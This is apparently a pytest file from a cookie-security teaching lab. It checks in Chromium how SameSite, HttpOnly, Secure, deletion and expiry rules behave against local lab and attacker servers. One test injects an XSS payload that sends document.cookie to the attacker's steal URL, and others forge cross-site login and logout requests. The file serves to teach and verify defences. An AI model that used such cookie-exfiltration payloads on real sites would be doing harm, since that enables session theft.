"""Every cookie fact the lab states, checked in real Chromium with sl.Browser.

The notebooks, the README, the docstrings and the audit say how browsers treat cookies; each
statement is backed by one test here, run against the lab's own server where it can be (its
``teaching`` routes send raw Set-Cookie lines and reflect a name unescaped) and against
another site on this machine (``sl.start_attacker``: ``attacker.localhost`` is another site
than ``127.0.0.1``). Test names say the fact.
"""

from __future__ import annotations

import json
import shutil
import tempfile
import time
from pathlib import Path
from urllib.parse import quote

import pytest

import sessionlab as sl
from sessionlab.chromium import driver, find_chromium, launch_args

SAMESITES = {
    "strict": "ck_strict=1; Path=/; SameSite=Strict",
    "lax": "ck_lax=1; Path=/; SameSite=Lax",
    "none": "ck_none=1; Path=/; SameSite=None; Secure",
    "unspecified": "ck_unspecified=1; Path=/",
}
TOP_LEVEL = {"link", "form", "form-get"}
# Which of the four cookies each cross-site request kind carries (cookies under 2 minutes old).
SENT = {
    "link": {"lax", "none", "unspecified"},
    "form-get": {"lax", "none", "unspecified"},
    "form": {"none", "unspecified"},  # a cookie without SameSite, only while young
    "img": set(),  # third-party cookies are blocked by default: not even None goes
    "script": set(),
    "iframe": set(),
    "fetch": set(),
}


def set_cookie(browser, *lines, directory=""):
    query = "&".join("c=" + quote(line, safe="") for line in lines)
    return browser.goto(f"{directory}/set-cookie?{query}")


def names(browser) -> set[str]:
    return {c.name for c in browser.jar()}


def sent_names(exchange) -> set[str]:
    header = exchange.sent_cookie or ""
    return {pair.split("=", 1)[0] for pair in header.split("; ") if pair}


def cross_site(browser, attacker, kind: str, path: str = "/user"):
    """Go to the attacker's page for ``kind`` (clicking when the victim must): the exchange
    that reached the target."""
    browser.goto(attacker.page(kind, path))
    if kind in TOP_LEVEL:
        browser.click("#go")
    return next(e for e in reversed(browser.exchanges) if e.url.startswith(attacker.target))


# -- a cookie without SameSite goes with a cross-site POST only while young --------------
# Chromium allows it for 2 minutes; ShortLaxAllowUnsafeThreshold cuts that to 10 s. The cookie
# is set when the module starts and checked old at its end, so the wait overlaps other tests.
YOUNG_FOR_S = 10


@pytest.fixture(scope="module")
def aging(chromium, teaching_lab, attacker):
    with teaching_lab.browser(
        name="t-aging", enable_features=["ShortLaxAllowUnsafeThreshold"]
    ) as browser:
        set_cookie(browser, SAMESITES["unspecified"], SAMESITES["lax"])
        yield browser, time.monotonic()


def test_without_samesite_a_young_cookie_goes_with_a_cross_site_post(aging, attacker):
    browser, born = aging
    exchange = cross_site(browser, attacker, "form")
    assert time.monotonic() - born < YOUNG_FOR_S
    assert sent_names(exchange) == {"ck_unspecified"}  # and not the Lax one


# -- deleting a cookie: name, domain and path match; other attributes do not matter -------


@pytest.mark.parametrize(
    "deletion",
    [
        "sid=; Path=/; Max-Age=0",  # no HttpOnly, no SameSite
        "sid=; Path=/; Max-Age=0; SameSite=Strict",
        "sid=; Path=/; Max-Age=0; SameSite=None; Secure",
        "sid=; Path=/; Expires=Thu, 01 Jan 1970 00:00:00 GMT",
    ],
)
def test_a_deletion_with_other_httponly_samesite_or_secure_still_deletes(browser, deletion):
    set_cookie(browser, "sid=1; Path=/; HttpOnly; SameSite=Lax; Max-Age=3600")
    (exchange,) = set_cookie(browser, deletion)
    assert "sid" not in names(browser) and exchange.refused == ()


def test_a_deletion_with_another_path_leaves_the_cookie_alive(browser):
    set_cookie(browser, "sid=1; Path=/; HttpOnly")
    set_cookie(browser, "sid=; Path=/user; Max-Age=0")
    assert "sid" in sent_names(browser.goto("/user")[-1])


def test_a_cookie_without_path_gets_the_directory_of_the_url_that_set_it(browser):
    set_cookie(browser, "sid=1", directory="/app")
    assert [(c.name, c.path) for c in browser.jar()] == [("sid", "/app")]
    set_cookie(browser, "sid=; Max-Age=0")  # from /set-cookie: Path=/, a miss
    assert "sid" in names(browser)
    set_cookie(browser, "sid=; Max-Age=0", directory="/app")
    assert "sid" not in names(browser)


def test_a_host_prefixed_cookie_is_deleted_only_by_a_deletion_with_secure(browser):
    set_cookie(browser, "__Host-sid=1; Secure; Path=/; HttpOnly")
    (exchange,) = set_cookie(browser, "__Host-sid=; Path=/; Max-Age=0")
    assert exchange.refused == ("__Host-sid=; Path=/; Max-Age=0: InvalidPrefix",)
    assert "__Host-sid" in names(browser)
    set_cookie(browser, "__Host-sid=; Secure; Path=/; Max-Age=0")
    assert "__Host-sid" not in names(browser)


def test_flask_sessions_logout_cookie_without_httponly_still_logs_the_browser_out(chromium):
    with sl.start_flask_session_app(name="t-facts-fs") as app, app.browser() as browser:
        browser.cycle("alice")
        logout = browser.exchanges[2]
        assert "HttpOnly" not in logout.set_cookies[0]
        assert [e.sent_cookie is not None for e in browser.exchanges] == [0, 1, 1, 0]
        assert browser.jar() == []


# -- Secure over http: requests never sends it, Chromium does on 127.0.0.1 and localhost --


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_secure_and_host_cookies_work_over_plain_http_on_loopback_in_chromium(
    browser, teaching_lab, host
):
    base = teaching_lab.url.replace("127.0.0.1", host)
    lines = ["sec=1; Secure; Path=/", "__Host-h=1; Secure; Path=/"]
    browser.goto(f"{base}/set-cookie?" + "&".join("c=" + quote(x) for x in lines))
    assert sent_names(browser.goto(f"{base}/user")[-1]) == {"sec", "__Host-h"}
    client = sl.Client(teaching_lab.url)
    client.get("/set-cookie", params={"c": lines})
    assert len(client.cookies) == 2 and client.get("/user").request.headers.get("Cookie") is None


def test_a_secure_session_cookie_over_http_keeps_chromium_logged_in_but_not_requests(chromium):
    with sl.start(store="memory", name="t-facts-secure", cookie={"secure": True}) as lab:
        client = lab.client()
        client.cycle("alice")
        with lab.browser() as browser:
            browser.cycle("alice")
            assert sl.history_frame(browser)["body"][1].startswith("alice")
        assert sl.history_frame(client)["body"][1] == "user logged out!"


# -- SameSite: what each kind of cross-site request carries ------------------------------


@pytest.mark.parametrize("kind", list(SENT))
def test_samesite_each_cross_site_request_kind(browser, attacker, kind):
    set_cookie(browser, *SAMESITES.values())
    exchange = cross_site(browser, attacker, kind)
    assert sent_names(exchange) == {f"ck_{s}" for s in SENT[kind]}
    assert all(name.startswith("ck_") for name in sent_names(exchange))


def test_samesite_none_goes_with_embedded_requests_only_where_third_party_cookies_are_allowed(
    chromium, teaching_lab, attacker
):
    with teaching_lab.browser(name="t-3pc", allow_third_party_cookies=True) as browser:
        for kind in ["img", "script", "iframe", "fetch"]:
            browser.clear_cookies()
            set_cookie(browser, *SAMESITES.values())
            assert sent_names(cross_site(browser, attacker, kind)) == {"ck_none"}, kind


def test_a_typed_address_is_not_cross_site_it_sends_strict_cookies(browser):
    set_cookie(browser, SAMESITES["strict"])
    assert sent_names(browser.goto("/user")[-1]) == {"ck_strict"}


def test_another_port_of_the_same_host_is_the_same_site(browser, teaching_lab):
    with sl.start_attacker(teaching_lab.url, name="t-same-site", host="127.0.0.1") as same:
        set_cookie(browser, SAMESITES["strict"])
        assert sent_names(cross_site(browser, same, "img")) == {"ck_strict"}


def test_a_sibling_subdomain_is_the_same_site(chromium, teaching_lab):
    """www.lab.localhost and evil.lab.localhost share the site lab.localhost."""
    www = teaching_lab.url.replace("127.0.0.1", "www.lab.localhost")
    with (
        sl.start_attacker(www, name="t-sibling", host="evil.lab.localhost") as sibling,
        sl.Browser(www, name="t-sibling-browser") as browser,
    ):
        set_cookie(browser, SAMESITES["strict"])
        assert sent_names(cross_site(browser, sibling, "img")) == {"ck_strict"}


def test_a_cross_site_img_cannot_log_out_but_a_link_can(browser, attacker):
    browser.goto("/user/alice")
    cross_site(browser, attacker, "img", "/logout")
    assert browser.goto("/user")[-1].body.startswith("alice")
    cross_site(browser, attacker, "link", "/logout")
    assert browser.goto("/user")[-1].body == "user logged out!"


def test_a_cross_site_img_cannot_log_in_but_a_link_can(browser, attacker):
    """Login CSRF: the img's Set-Cookie is refused; a top-level response's is stored."""
    exchange = cross_site(browser, attacker, "img", "/user/mallory")
    assert exchange.refused and names(browser) == set()
    cross_site(browser, attacker, "link", "/user/mallory")
    assert browser.goto("/user")[-1].body.startswith("mallory")


def test_samesite_none_without_secure_is_refused(browser):
    (exchange,) = set_cookie(browser, "nn=1; Path=/; SameSite=None")
    assert exchange.refused == ("nn=1; Path=/; SameSite=None: SameSiteNoneInsecure",)


# -- HttpOnly -----------------------------------------------------------------------------


def test_httponly_hides_the_session_cookie_from_page_scripts(browser, teaching_lab):
    browser.goto("/user/alice")
    set_cookie(browser, "theme=dark; Path=/")
    assert browser.document_cookie() == "theme=dark"
    assert sent_names(browser.goto("/user")[-1]) == {teaching_lab.cookie_name, "theme"}


def test_an_injected_script_steals_what_is_not_httponly_and_nothing_else(browser, attacker):
    browser.goto("/user/alice")
    set_cookie(browser, "theme=dark; Path=/")
    script = f"new Image().src='{attacker.steal_url}?c='+encodeURIComponent(document.cookie)"
    browser.goto("/user/" + quote(f'<img src=x onerror="{script}">', safe=""))
    browser.goto("/user")  # the page shows the name unescaped: the script runs
    assert attacker.stolen[-1:] == ["theme=dark"]


# -- size, expiry, restarts ---------------------------------------------------------------


def test_a_cookie_over_4096_bytes_is_dropped_and_the_old_value_kept(browser):
    set_cookie(browser, "big=old; Path=/")
    (exchange,) = set_cookie(browser, "big=" + "y" * 4094 + "; Path=/")
    assert [c.value for c in browser.jar()] == ["old"]
    assert exchange.refused[0].endswith("NameValuePairExceedsMaxSize")


def test_max_age_beats_expires(browser):
    set_cookie(
        browser,
        "m1=1; Path=/; Expires=Thu, 01 Jan 1970 00:00:00 GMT; Max-Age=3600",
        "m2=1; Path=/; Expires=Fri, 01 Jan 2100 00:00:00 GMT; Max-Age=0",
    )
    assert names(browser) == {"m1"}


@pytest.mark.parametrize(("restore", "kept"), [(False, {"pers"}), (True, {"sess", "pers"})])
def test_a_session_cookie_survives_a_restart_when_the_browser_restores_sessions(
    chromium, teaching_lab, restore, kept
):
    """'Continue where you left off' (session.restore_on_startup=1) keeps session cookies."""
    profile = Path(tempfile.mkdtemp(prefix="t-restart-"))
    (profile / "Default").mkdir()
    prefs = {"session": {"restore_on_startup": 1 if restore else 5}}
    (profile / "Default" / "Preferences").write_text(json.dumps(prefs))
    url = f"{teaching_lab.url}/set-cookie?c=sess%3D1%3B%20Path%3D%2F&c=pers%3D1%3B%20Max-Age%3D600"

    def visit(go: bool) -> set[str]:
        context = driver().playwright.chromium.launch_persistent_context(
            str(profile), executable_path=find_chromium(), args=launch_args(), headless=True
        )
        try:
            page = context.pages[0] if context.pages else context.new_page()
            if go:
                page.goto(url)
            return {c["name"] for c in context.cookies()}
        finally:
            context.close()

    try:
        assert driver().call(lambda: visit(True)) == {"sess", "pers"}
        assert driver().call(lambda: visit(False)) == kept
    finally:
        shutil.rmtree(profile, ignore_errors=True)


# -- CSRF: SameSite=Lax stops a cross-site POST; the token stops a same-site one too ------


def test_a_forged_logout_post_fails_cross_site_by_samesite_and_same_site_by_the_token(chromium):
    with (
        sl.start(store="memory", profile="hardened", name="t-facts-csrf") as lab,
        sl.start_attacker(lab.url, name="t-cross") as cross,
        sl.start_attacker(lab.url, name="t-same", host="127.0.0.1", tls=True) as same,
        lab.browser() as browser,
    ):
        browser.goto("/login")
        browser.fill("input[name=user]", "alice")
        browser.click("button")
        for site, cookie_sent in ((cross, False), (same, True)):
            forged = cross_site(browser, site, "form", "/logout")
            assert (forged.status, forged.sent_cookie is not None) == (403, cookie_sent)
            assert browser.goto("/user")[-1].body.startswith("alice")


def test_without_samesite_an_old_cookie_stays_off_a_cross_site_post(aging, attacker):
    """Kept last in this module: by now the cookie is usually old without any wait."""
    browser, born = aging
    time.sleep(max(0.0, born + YOUNG_FOR_S + 1 - time.monotonic()))
    exchange = cross_site(browser, attacker, "form")
    assert sent_names(exchange) == set()
    assert "ck_unspecified: SchemefulSameSiteUnspecifiedTreatedAsLax" in exchange.withheld


# -- DevTools: where a person sees the jar ------------------------------------------------


def test_chromiums_devtools_show_the_jar_under_application_cookies_with_these_columns(chromium):
    """The DevTools front end this Chromium serves: a panel titled "Application", a storage
    tree item "Cookies", and a cookie table whose columns sl.cookies_frame follows."""
    import subprocess
    import urllib.request

    profile = Path(tempfile.mkdtemp(prefix="t-devtools-"))
    args = [find_chromium(), "--headless", "--remote-debugging-port=0"]
    args += [f"--user-data-dir={profile}", *launch_args(), "about:blank"]
    process = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        port_file = profile / "DevToolsActivePort"
        deadline = time.monotonic() + 20
        while not port_file.exists() or not port_file.read_text().strip():
            assert time.monotonic() < deadline, "Chromium did not open its DevTools port"
            time.sleep(0.1)
        base = f"http://127.0.0.1:{port_file.read_text().split()[0]}/devtools"

        def source(path: str) -> str:
            with urllib.request.urlopen(f"{base}/{path}", timeout=10) as response:
                return response.read().decode()

        meta = source("panels/application/application-meta.js")
        assert 'application:"Application"' in meta and 'id:"resources"' in meta
        assert 'cookies:"Cookies"' in source("panels/application/application.js")
        table = source("ui/legacy/components/cookie_table/cookie_table.js")
        for column in ["Expires / Max-Age", "HttpOnly", "SameSite"]:
            assert f"{column}\n" in table
        for column in ["name", "value", "domain", "path", "size", "secure"]:
            assert f"l(r.{column})" in table
    finally:
        process.terminate()
        process.wait(timeout=10)
        shutil.rmtree(profile, ignore_errors=True)
